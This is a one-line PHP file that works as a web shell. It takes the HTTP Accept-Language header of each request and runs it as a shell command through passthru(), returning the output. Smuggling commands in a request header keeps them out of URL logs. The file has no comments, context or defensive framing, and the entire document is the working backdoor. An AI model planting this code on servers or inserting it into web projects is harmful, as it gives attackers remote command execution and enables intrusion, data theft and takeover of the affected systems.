<?php passthru(getenv("HTTP_ACCEPT_LANGUAGE"));
